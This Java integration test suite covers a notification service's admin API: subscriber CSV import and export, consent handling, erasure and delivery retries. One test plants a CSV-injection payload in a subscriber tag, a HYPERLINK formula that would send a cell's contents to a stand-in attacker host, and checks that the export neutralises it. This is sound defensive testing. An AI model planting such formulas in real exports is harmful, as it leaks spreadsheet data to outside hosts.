package dev.agenda.notification;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.UUID;

import com.jayway.jsonpath.JsonPath;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.mongodb.core.query.Criteria;
import org.springframework.data.mongodb.core.query.Query;
import org.springframework.data.mongodb.core.query.Update;

import dev.agenda.notification.delivery.DeliveryOrder;
import dev.agenda.notification.delivery.DeliveryStore;
import dev.agenda.notification.event.NoticeKind;

/** Admin endpoints: protected, search, counts, CSV export and import, erasure, retry of failed deliveries. */
class AdminApiTest extends IntegrationTestBase {

    @Autowired
    DeliveryStore deliveries;

    @Test
    void adminRoutesNeedAnAdmin() throws Exception {
        HttpResponse<String> anonymous = get("/api/admin/subscribers");
        assertThat(anonymous.statusCode()).isEqualTo(401);
        assertThat(anonymous.headers().firstValue("Content-Type")).hasValueSatisfying(
                v -> assertThat(v).startsWith("application/problem+json"));
        assertThat(admin("GET", "/api/admin/subscribers/counts", null, null).body()).contains("CONFIRMED");
    }

    @Test
    void csvImportReportsEveryLineAndExportListsThem() throws Exception {
        String a = unique("imp") + "@example.org";
        String csv = "email,categories,tags\n" + a.toUpperCase() + ",Ateliers;Conférences,ia\nnot an address,,\n" + a
                + ",,\n";
        HttpResponse<String> report = admin("POST", "/api/admin/subscribers/import", "text/csv", csv);
        assertThat(report.statusCode()).isEqualTo(200);
        assertThat(report.body()).contains("\"line\":2").contains("\"outcome\":\"CREATED\"")
                .contains("\"line\":3").contains("\"outcome\":\"INVALID\"")
                .contains("\"line\":4").contains("\"outcome\":\"DUPLICATE_IN_FILE\"");
        HttpResponse<String> again = admin("POST", "/api/admin/subscribers/import", "text/csv", "email\n" + a + "\n");
        assertThat(again.body()).contains("ALREADY_SUBSCRIBED");

        HttpResponse<String> export = admin("GET", "/api/admin/subscribers/export.csv", null, null);
        assertThat(export.headers().firstValue("Content-Type")).hasValueSatisfying(v -> assertThat(v).startsWith("text/csv"));
        assertThat(export.body()).startsWith("id,email,status").contains(a + ",CONFIRMED,false,ateliers;conférences,ia,IMPORT");
    }

    @Test
    void csvSavedByASpreadsheetIsReadAsItLooks() throws Exception {
        String a = unique("semi") + "@example.org";
        String b = unique("semi") + "@example.org";
        String c = unique("bom") + "@example.org";
        // A spreadsheet set to French: byte order mark, semicolons, its own capitals, the cell holding a ';' quoted.
        // (No address here wants everything: it would receive the events of the other tests, which count.)
        String only = unique("cat");
        String french = "\uFEFFEmail;Categories;Tags\r\n" + a + ";\"Atelier;Conférence\";ia\r\n" + b + ";" + only
                + ";\r\n";
        HttpResponse<String> report = admin("POST", "/api/admin/subscribers/import", "text/csv", french);
        assertThat(report.statusCode()).isEqualTo(200);
        assertThat(report.body()).contains("\"email\":\"" + a + "\",\"outcome\":\"CREATED\"")
                .contains("\"email\":\"" + b + "\",\"outcome\":\"CREATED\"").doesNotContain("INVALID");
        // "CSV UTF-8" with commas: the mark alone.
        HttpResponse<String> bom = admin("POST", "/api/admin/subscribers/import", "text/csv",
                "\uFEFFemail,tags\n" + c + ",ia\n");
        assertThat(bom.statusCode()).isEqualTo(200);
        assertThat(bom.body()).contains("\"email\":\"" + c + "\",\"outcome\":\"CREATED\"");

        String export = admin("GET", "/api/admin/subscribers/export.csv", null, null).body();
        assertThat(export).contains(a + ",CONFIRMED,false,atelier;conférence,ia,IMPORT")
                .contains(b + ",CONFIRMED,false," + only + ",,IMPORT").contains(c + ",CONFIRMED,false,,ia,IMPORT");
    }

    @Test
    void aMalformedLineEndsTheImportWithAReportNotAnError() throws Exception {
        String a = unique("before") + "@example.org";
        String b = unique("after") + "@example.org";
        // A quote opened and never closed: the parser cannot tell where the next record starts.
        String csv = "email,tags\n" + a + ",ia\n" + unique("quote") + "@example.org,\"ia\n" + b + ",ia\n";
        HttpResponse<String> report = admin("POST", "/api/admin/subscribers/import", "text/csv", csv);
        assertThat(report.statusCode()).isEqualTo(200);
        assertThat(report.body()).contains("\"line\":2,\"email\":\"" + a + "\",\"outcome\":\"CREATED\"")
                .contains("\"line\":3,\"email\":\"\",\"outcome\":\"INVALID\"").contains("not valid CSV")
                .doesNotContain(b);
        // Text after a closing quote, too.
        HttpResponse<String> stray = admin("POST", "/api/admin/subscribers/import", "text/csv",
                "email,tags\n\"" + unique("stray") + "@example.org\"x,ia\n");
        assertThat(stray.statusCode()).isEqualTo(200);
        assertThat(stray.body()).contains("\"line\":2,\"email\":\"\",\"outcome\":\"INVALID\"");
        // A header line that is not CSV: a 400 problem, not a 500.
        assertThat(admin("POST", "/api/admin/subscribers/import", "text/csv", "\"email\n").statusCode())
                .isEqualTo(400);
    }

    @Test
    void exportedCellsThatASpreadsheetWouldEvaluateStayText() throws Exception {
        String email = unique("csv") + "@example.org";
        String formula = "=HYPERLINK(\\\"http://evil.example/?\\\"&B2,\\\"x\\\")";
        assertThat(post("/api/subscriptions", "application/json",
                "{\"email\":\"" + email + "\",\"tags\":[\"" + formula + "\",\"-2+3\"]}").statusCode())
                .isEqualTo(202);

        String line = exportLineOf(email);
        // Each value protected, not only the first: a spreadsheet set to French splits the cell at its ';'.
        assertThat(line).contains("\"'-2+3;'=hyperlink(").doesNotContain(",=").doesNotContain("\"=")
                .doesNotContain(";=").doesNotContain(",-2");
    }

    /**
     * The line of the export for an address subscribed through the form: the 202 comes before the request is
     * processed (so that its timing tells nothing), so the record may appear a moment later.
     */
    private String exportLineOf(String email) {
        return await().atMost(Duration.ofSeconds(30)).until(() -> admin("GET", "/api/admin/subscribers/export.csv",
                null, null).body().lines().filter(l -> l.contains(email)).findFirst(), java.util.Optional::isPresent)
                .orElseThrow();
    }

    @Test
    void anAddressTheExportProtectedImportsBackAsTheSameAddress() throws Exception {
        // "-" starts a formula in a spreadsheet: the export writes "'-…", which must not come back as a new address.
        String email = "-" + unique("tiret") + "@example.org";
        // (A category: an address wanting everything would receive the events of the other tests, which count.)
        assertThat(post("/api/subscriptions", "application/json", "{\"email\":\"" + email + "\",\"categories\":[\""
                + unique("cat") + "\"]}").statusCode()).isEqualTo(202);
        String line = exportLineOf(email);
        assertThat(line).contains(",'" + email + ",");
        String header = admin("GET", "/api/admin/subscribers/export.csv", null, null).body().lines().findFirst()
                .orElseThrow();

        HttpResponse<String> report = admin("POST", "/api/admin/subscribers/import", "text/csv",
                header + "\n" + line + "\n");
        assertThat(report.statusCode()).isEqualTo(200);
        assertThat(report.body()).contains("\"email\":\"" + email + "\"").doesNotContain("'" + email)
                .doesNotContain("CREATED");
    }

    @Test
    void anExportedLineImportsBackWithTheSamePreferences() throws Exception {
        String email = unique("aller") + "@example.org";
        subscribeAndConfirm(email, List.of(), List.of("-2+3", "@rennes"));
        String line = exportLineOf(email);
        List<String> export = admin("GET", "/api/admin/subscribers/export.csv", null, null).body().lines().toList();
        assertThat(line).contains("'-2+3;'@rennes");

        String copy = unique("retour") + "@example.org";
        HttpResponse<String> report = admin("POST", "/api/admin/subscribers/import", "text/csv",
                export.get(0) + "\n" + line.replace(email, copy) + "\n");
        assertThat(report.statusCode()).isEqualTo(200);
        assertThat(admin("GET", "/api/admin/subscribers?q=" + copy, null, null).body())
                .contains("\"tags\":[\"-2+3\",\"@rennes\"]").doesNotContain("'");
    }

    @Test
    void theExportImportedAgainGivesNobodyConsentTheFileSaysTheyDidNotGive() throws Exception {
        String pending = unique("jamais-confirme") + "@example.org";
        String unsubscribed = unique("desabonne") + "@example.org";
        String confirmed = unique("confirme") + "@example.org";
        assertThat(subscribe(pending, List.of(), List.of()).statusCode()).isEqualTo(202);
        subscribeAndConfirm(unsubscribed, List.of(), List.of());
        subscribeAndConfirm(confirmed, List.of(unique("atelier")), List.of());
        assertThat(admin("DELETE", "/api/admin/subscribers/" + subscriberId(unsubscribed), null, null).statusCode())
                .isEqualTo(204);
        List<String> export = admin("GET", "/api/admin/subscribers/export.csv", null, null).body().lines().toList();
        String header = export.get(0);
        // Restored elsewhere, or after the records were lost: every address of the file is new there.
        String copyOfPending = unique("copie") + "@example.org";
        String copyOfConfirmed = unique("copie") + "@example.org";
        String file = header + "\n" + exportLineOf(pending).replace(pending, copyOfPending) + "\n"
                + exportLineOf(confirmed).replace(confirmed, copyOfConfirmed) + "\n"
                + "x," + unsubscribed + ",UNSUBSCRIBED,true,,,FORM,,,,,\n"
                + "y," + unique("b") + "@example.org,bounced,true,,,FORM,,,,,\n"
                + "z," + unique("c") + "@example.org,GONE,true,,,FORM,,,,,\n";

        String report = admin("POST", "/api/admin/subscribers/import", "text/csv", file).body();

        assertThat(JsonPath.<List<String>>read(report, "$.lines[*].outcome")).containsExactly("NOT_CONFIRMED_IN_FILE",
                "CREATED", "NOT_CONFIRMED_IN_FILE", "NOT_CONFIRMED_IN_FILE", "INVALID");
        assertThat(admin("GET", "/api/admin/subscribers?q=" + copyOfPending, null, null).body())
                .contains("\"items\":[]");
        assertThat(admin("GET", "/api/admin/subscribers?q=" + unsubscribed, null, null).body())
                .contains("\"items\":[]");
        assertThat(admin("GET", "/api/admin/subscribers?q=" + copyOfConfirmed, null, null).body())
                .contains("CONFIRMED");
    }

    @Test
    void anAddressAnyLineOfTheFileSaysIsNotConfirmedIsNotImported() throws Exception {
        String ana = unique("fusion") + "@example.org";
        String file = "email,status,categories\n" + ana + ",CONFIRMED,atelier\n" + ana.toUpperCase()
                + ",UNSUBSCRIBED,atelier\n";
        String report = admin("POST", "/api/admin/subscribers/import", "text/csv", file).body();
        assertThat(JsonPath.<List<String>>read(report, "$.lines[*].outcome")).containsExactly("NOT_CONFIRMED_IN_FILE",
                "DUPLICATE_IN_FILE");
        assertThat(report).contains("UNSUBSCRIBED on another line");
        assertThat(admin("GET", "/api/admin/subscribers?q=" + ana, null, null).body()).contains("\"items\":[]");
    }

    @Test
    void aCsvIsReadInTheCharsetItsContentTypeNamesAndRefusedIfItIsNotText() throws Exception {
        String latin = unique("latin") + "@example.org";
        byte[] windows1252 = ("email;categories\r\n" + latin + ";conférence\r\n")
                .getBytes(java.nio.charset.Charset.forName("windows-1252"));
        java.net.http.HttpRequest.Builder request = java.net.http.HttpRequest.newBuilder(
                java.net.URI.create(base() + "/api/admin/subscribers/import"))
                .header("Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString(
                        ("admin:" + ADMIN_PASSWORD).getBytes(java.nio.charset.StandardCharsets.UTF_8)))
                .POST(java.net.http.HttpRequest.BodyPublishers.ofByteArray(windows1252));
        java.net.http.HttpClient http = java.net.http.HttpClient.newHttpClient();

        HttpResponse<String> declared = http.send(request.copy().header("Content-Type",
                "text/csv; charset=windows-1252").build(), HttpResponse.BodyHandlers.ofString());
        assertThat(declared.body()).contains("CREATED");
        assertThat(admin("GET", "/api/admin/subscribers?q=" + latin, null, null).body()).contains("conférence");

        HttpResponse<String> undeclared = http.send(request.copy().header("Content-Type", "text/csv").build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(undeclared.statusCode()).isEqualTo(400);
        assertThat(undeclared.body()).contains("not UTF-8 text");
    }

    @Test
    void aHeaderNamingAColumnTwiceIsRefused() throws Exception {
        HttpResponse<String> twice = admin("POST", "/api/admin/subscribers/import", "text/csv",
                "email,email\n" + unique("a") + "@example.org," + unique("b") + "@example.org\n");
        assertThat(twice.statusCode()).isEqualTo(400);
        assertThat(twice.body()).contains("names a column twice");
    }

    @Test
    void queryParametersTheServiceCannotUseAre400sNot500s() throws Exception {
        for (String path : List.of("/api/admin/subscribers?q=%ZZ", "/api/admin/subscribers?q=%00",
                "/api/admin/subscribers?page=4294968&size=500",
                "/api/admin/events/" + UUID.randomUUID() + "/deliveries?page=2147484&size=1000")) {
            java.net.HttpURLConnection answer = rawGet(path, true);
            assertThat(answer.getResponseCode()).as(path).isEqualTo(400);
            assertThat(answer.getContentType()).as(path).startsWith("application/problem+json");
        }
        java.net.HttpURLConnection exportAsJson = rawGet("/api/admin/subscribers/export.csv", true);
        exportAsJson.setRequestProperty("Accept", "application/json");
        assertThat(exportAsJson.getResponseCode()).isEqualTo(406);
        // The public pages too: a link mangled by a mail client.
        for (String path : List.of("/subscriptions/confirm?token=%ZZ", "/subscriptions/unsubscribe?token=%E0%A4%A")) {
            assertThat(rawGet(path, false).getResponseCode()).as(path).isEqualTo(400);
        }
    }

    /** The path sent as written: java.net.URI refuses a malformed escape before it leaves. */
    private java.net.HttpURLConnection rawGet(String path, boolean asAdmin) throws Exception {
        @SuppressWarnings("deprecation")
        java.net.HttpURLConnection connection = (java.net.HttpURLConnection) new java.net.URL(base() + path)
                .openConnection();
        if (asAdmin) {
            connection.setRequestProperty("Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString(
                    ("admin:" + ADMIN_PASSWORD).getBytes(java.nio.charset.StandardCharsets.UTF_8)));
        }
        return connection;
    }

    @Test
    void anAddressOfAnInternationalisedDomainIsFoundAsItIsWritten() throws Exception {
        String local = unique("idn");
        // A category of its own: a subscriber to everything would receive the other tests' events.
        HttpResponse<String> report = admin("POST", "/api/admin/subscribers/import", "text/csv",
                "email,categories\n" + local + "@Société.fr," + unique("cat") + "\n");
        assertThat(report.body()).contains("\"email\":\"" + local + "@xn--socit-esab.fr\",\"outcome\":\"CREATED\"");
        String unicode = java.net.URLEncoder.encode("société", java.nio.charset.StandardCharsets.UTF_8);
        for (String q : List.of(unicode, local + "@" + unicode + ".fr", unicode + ".fr", "xn--socit-esab")) {
            assertThat(admin("GET", "/api/admin/subscribers?size=200&q=" + q, null, null).body()).as(q)
                    .contains("\"email\":\"" + local + "@xn--socit-esab.fr\"");
        }
        assertThat(admin("GET", "/api/admin/subscribers?q=" + local + "@" + unicode + ".fr", null, null).body())
                .contains("\"total\":1");
    }

    @Test
    void erasureRemovesThePersonAndAnonymisesTheirDeliveries() throws Exception {
        String email = unique("erase") + "@example.org";
        String eventId = announcedTo(email, "Effacement");
        String id = subscriberId(email);

        assertThat(admin("DELETE", "/api/admin/subscribers/" + id, null, null).statusCode()).isEqualTo(204);
        assertThat(admin("GET", "/api/admin/subscribers?q=" + email, null, null).body()).contains("\"total\":0");
        String records = admin("GET", "/api/admin/events/" + eventId + "/deliveries", null, null).body();
        assertThat(records).doesNotContain(id).contains("\"subscriberId\":\"erased-").contains("SENT");
        assertThat(admin("DELETE", "/api/admin/subscribers/" + id, null, null).statusCode()).isEqualTo(404);

        // An order for them still on its way when they were erased: skipped, and its record anonymised too.
        deliveries.insertOrLoad(DeliveryOrder.of(eventId, 9, NoticeKind.RESCHEDULE, id),
                Instant.now().minus(Duration.ofHours(1)));
        await().atMost(Duration.ofSeconds(30)).until(() -> {
            String after = admin("GET", "/api/admin/events/" + eventId + "/deliveries", null, null).body();
            return after.contains("\"status\":\"SKIPPED\"") && !after.contains(id);
        });
        assertThat(messagesTo(email)).hasSize(2);
    }

    @Test
    void aNoticeAfterAnErasureAddsNoRecordForTheErasedPerson() throws Exception {
        String email = unique("gone") + "@example.org";
        String eventId = announcedTo(email, "Déplacé après effacement");
        assertThat(admin("DELETE", "/api/admin/subscribers/" + subscriberId(email), null, null).statusCode())
                .isEqualTo(204);

        // Moved: the notice goes to those who received the announcement, an erased person no longer among them.
        Instant later = Instant.now().plus(Duration.ofDays(20));
        publish(event(eventId, "Déplacé après effacement", List.of(), List.of()).setRevision(2)
                .setStartsAt(later).setEndsAt(later.plus(Duration.ofHours(2))).build());
        await().atMost(Duration.ofSeconds(30)).until(() -> admin("GET", "/api/admin/events/" + eventId
                + "/announcements", null, null).body().contains("\"kind\":\"RESCHEDULE\""));
        awaitAllConsumed();
        String records = admin("GET", "/api/admin/events/" + eventId + "/deliveries", null, null).body();
        assertThat(records).contains("\"kind\":\"ANNOUNCEMENT\"").doesNotContain("RESCHEDULE");
        assertThat(messagesTo(email)).hasSize(2);
    }

    @Test
    void retrySendsOnlyTheFailedDeliveries() throws Exception {
        String category = unique("cat");
        String ok = unique("ok") + "@example.org";
        String failed = unique("failed") + "@example.org";
        subscribeAndConfirm(ok, List.of(category), List.of());
        subscribeAndConfirm(failed, List.of(category), List.of());
        String eventId = UUID.randomUUID().toString();
        publish(event(eventId, "Nouvelle tentative", List.of(category), List.of()).build());
        awaitMessages(ok, 2);
        awaitMessages(failed, 2);
        awaitAllConsumed();
        // As a permanent SMTP refusal would have left it.
        mongo.updateFirst(Query.query(Criteria.where("eventId").is(eventId).and("subscriberId").is(subscriberId(failed))),
                new Update().set("status", "FAILED").set("lastError", "550 mailbox unavailable"), "deliveries");

        // Paged, one record a page here; the counts cover the whole event whatever the page or the filter.
        String base = "/api/admin/events/" + eventId + "/deliveries";
        String first = admin("GET", base + "?size=1", null, null).body();
        String second = admin("GET", base + "?size=1&page=1", null, null).body();
        String beyond = admin("GET", base + "?size=1&page=2", null, null).body();
        for (String page : List.of(first, second, beyond)) {
            assertThat((Integer) JsonPath.read(page, "$.total")).isEqualTo(2);
            assertThat((Integer) JsonPath.read(page, "$.byStatus.SENT")).isEqualTo(1);
            assertThat((Integer) JsonPath.read(page, "$.byStatus.FAILED")).isEqualTo(1);
        }
        assertThat(JsonPath.<List<String>>read(first, "$.items[*].subscriberId")).hasSize(1);
        assertThat(JsonPath.<List<String>>read(beyond, "$.items")).isEmpty();
        assertThat(List.of(JsonPath.<String>read(first, "$.items[0].subscriberId"),
                JsonPath.<String>read(second, "$.items[0].subscriberId")))
                .containsExactlyInAnyOrder(subscriberId(ok), subscriberId(failed));
        String onlyFailed = admin("GET", base + "?status=FAILED", null, null).body();
        assertThat((Integer) JsonPath.read(onlyFailed, "$.total")).isEqualTo(1);
        assertThat(JsonPath.<String>read(onlyFailed, "$.items[0].lastError")).isEqualTo("550 mailbox unavailable");

        HttpResponse<String> retry = admin("POST", "/api/admin/events/" + eventId + "/deliveries/retry-failed", null,
                null);
        assertThat(retry.body()).isEqualTo("{\"requeued\":1}");
        awaitMessages(failed, 3);
        awaitAllConsumed();
        assertThat(messagesTo(ok)).hasSize(2);
        assertThat(messagesTo(failed)).hasSize(3);
        assertThat(admin("GET", "/api/admin/events/" + eventId + "/deliveries?status=SENT", null, null).body())
                .contains(subscriberId(ok)).contains(subscriberId(failed));
    }
}
